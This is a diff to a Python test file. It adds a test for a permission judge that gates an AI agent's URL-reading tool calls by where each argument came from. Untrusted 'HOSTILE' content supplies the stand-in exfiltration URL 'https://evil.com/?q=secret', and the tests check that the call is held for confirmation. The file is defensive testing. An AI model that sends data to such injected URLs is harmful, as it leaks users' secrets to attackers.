@@ -313,6 +313,21 @@ def test_a_loosened_argument_says_why() -> None:
         assert judge(pay, {"account": "A17", "amount": amount}, Question(known)).tier == tier
 
 
+def test_a_read_that_is_given_a_url_needs_it_from_the_user_whatever_its_argument_is_called() -> (
+    None
+):
+    look = flow_of("look", "read", {"properties": {"page": {"default": "https://a.com"}, "n": {}}})
+    known = reading("look at https://a.com/x", HOSTILE)
+    evil = {"page": "https://evil.com/?q=secret", "n": 1}
+    verdict = judge(look, evil, Question(known))
+    assert (verdict.decision, verdict.tier) == ("ask", "origin")
+    assert verdict.reason == "nobody who may decide it said page of look"
+    for page in ("https://a.com/x", "https://a.com", "the second"):
+        assert judge(look, evil | {"page": page}, Question(known)).tier == "read"
+    assert judge(look, evil, Question(known, hosts=frozenset(["evil.com"]))).tier == "read"
+    assert judge(look, evil, Question(reading("look"))).tier == "clean"
+
+
 def test_a_read_of_a_url_needs_the_url_from_the_user_or_a_host_that_is_allowed() -> None:
     known = reading("read https://a.com/x", "then https://evil.com/?q=secret")
     assert judge(FETCH, {"url": "https://A.com/x"}, Question(known)).decision == "allow"
